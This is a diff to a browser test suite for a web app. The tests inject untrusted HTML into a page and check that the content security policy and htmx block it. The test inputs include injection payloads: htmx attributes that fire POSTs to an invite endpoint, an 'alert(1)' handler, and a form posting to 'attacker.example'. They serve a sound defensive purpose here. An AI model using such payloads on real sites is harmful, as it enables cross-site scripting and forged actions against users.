@@ -1,7 +1,7 @@
-"""Were a page to print a stranger's words unescaped after all: what the browser and htmx still hold back.
+"""If a page printed a stranger's text unescaped, the browser and htmx would still block it.
 
-The words are put into the answer on its way to the browser, with the headers that the server sent: what a template with
-a mistake in it would do.
+The text is put into the answer on its way to the browser, with the headers that the server sent: the effect of a
+template with a mistake.
 """
 
 from __future__ import annotations
@@ -32,16 +32,16 @@ SCRIPTS = """
 """
 
 
-def misprinted(page: Any, path: str, words: str) -> list[str]:
-    """From now on the page at `path` has these words at the end of its content; gives the requests as they are made."""
+def misprinted(page: Any, path: str, markup: str) -> list[str]:
+    """From now on the page at `path` has this markup at the end of its content; returns the finished requests."""
     asked: list[str] = []
 
     def print_raw(route: Any) -> None:
         answer = route.fetch()
-        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{words}</main>", 1))
+        route.fulfill(response=answer, body=answer.text().replace("</main>", f"{markup}</main>", 1))
 
     page.route(f"**{path}", print_raw)
-    # What the policy stops is announced as a request and never sent.
+    # Requests that the policy blocks are announced and never sent.
     page.on("requestfinished", lambda request: asked.append(f"{request.method} {request.url}"))
     return asked
 
@@ -58,30 +58,30 @@ def test_words_that_are_htmx_and_a_script_invite_nobody(page: Any, live_server: 
     asked = misprinted(page, EXPORTS, INVITATION)
     page.goto(live_server.url + EXPORTS)
     expect(page.locator("i[hx-post]")).to_have_count(1)
-    assert page.evaluate("typeof htmx") == "object"  # the page's own htmx is there and has looked through it
+    assert page.evaluate("typeof htmx") == "object"  # the page's own htmx is loaded and has processed it
     page.evaluate("htmx.process(document.body)")
     page.wait_for_load_state("networkidle")
-    assert [each for each in asked if each.startswith("POST")] == []
+    assert [line for line in asked if line.startswith("POST")] == []
     assert Invitation.objects.count() == 0
-    assert any("script" in each for each in attacked())
+    assert any("script" in line for line in attacked())
 
 
 @pytest.mark.parametrize("mark", ["", "data-htmx=guessed", "data-hx-boost=true hx-disinherit=x"])
 def test_htmx_passes_over_elements_of_strangers(
     page: Any, live_server: Any, cast: Cast, attacked: Any, mark: str
 ) -> None:
-    words = (
+    markup = (
         f'<div {mark} hx-get="/m/cuprija/members/" hx-trigger="load" hx-target="body" hx-swap="beforeend"></div>'
         f'<form {mark} action="/m/cuprija/members/invite/" method="post" hx-boost="true">'
         '<button id="go">x</button></form>'
         f'<p {mark} data-hx-post="/m/cuprija/members/invite/" data-hx-trigger="load" hx-on:click="alert(1)">x</p>'
     )
     enter(page, live_server, cast.approver)
-    asked = misprinted(page, EXPORTS, words)
+    asked = misprinted(page, EXPORTS, markup)
     page.goto(live_server.url + EXPORTS)
     expect(page.locator("#go")).to_be_visible()
     page.wait_for_load_state("networkidle")
-    assert [each for each in asked if "/members/" in each] == []
+    assert [line for line in asked if "/members/" in line] == []
 
 
 def test_no_script_of_a_stranger_runs(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
@@ -91,20 +91,20 @@ def test_no_script_of_a_stranger_runs(page: Any, live_server: Any, cast: Cast, a
     page.evaluate("document.getElementById('link').click()")
     page.wait_for_load_state("networkidle")
     assert page.evaluate("document.documentElement.dataset.ran") is None
-    assert [each for each in asked if "of-a-stranger" in each or "attacker" in each] == []
+    assert [line for line in asked if "of-a-stranger" in line or "attacker" in line] == []
     assert len(attacked()) >= 5
 
 
 def test_a_form_of_a_stranger_leads_nowhere_else(page: Any, live_server: Any, cast: Cast, attacked: Any) -> None:
     enter(page, live_server, cast.approver)
-    words = '<form action="https://attacker.example/" method="post"><input name="x"><button id="go">x</button></form>'
-    asked = misprinted(page, EXPORTS, words)
+    markup = '<form action="https://attacker.example/" method="post"><input name="x"><button id="go">x</button></form>'
+    asked = misprinted(page, EXPORTS, markup)
     page.goto(live_server.url + EXPORTS)
     page.evaluate("document.getElementById('go').click()")
     page.wait_for_load_state("networkidle")
-    assert [each for each in asked if "attacker" in each] == []
+    assert [line for line in asked if "attacker" in line] == []
     assert page.url == live_server.url + EXPORTS
-    assert any("form-action" in each for each in attacked())
+    assert any("form-action" in line for line in attacked())
 
 
 TO_MARKUP = {
@@ -143,6 +143,7 @@ def test_only_pages_with_htmx_parse_text_without_our_module(
         assert page.evaluate(tried) == expected, path
 
 
+@pytest.mark.slow
 def test_nothing_of_the_page_stays_in_the_storage_of_the_browser(page: Any, live_server: Any, cast: Cast) -> None:
     enter(page, live_server, cast.approver)
     page.goto(live_server.url + EXPORTS)
@@ -150,5 +151,5 @@ def test_nothing_of_the_page_stays_in_the_storage_of_the_browser(page: Any, live
         page.get_by_role("button", name="Put the file together").click()
     page.goto(f"{live_server.url}/m/cuprija/inbox/")
     stored = page.evaluate("Object.entries({...localStorage, ...sessionStorage})")
-    # The address of the last page with htmx, as long as the tab is open: it needs no words to say it.
-    assert [each for each in stored if "htmx" in each[0]] == [["htmx-current-path-for-history", EXPORTS]]
+    # The address of the last page with htmx, as long as the tab is open: it holds no personal data.
+    assert [entry for entry in stored if "htmx" in entry[0]] == [["htmx-current-path-for-history", EXPORTS]]
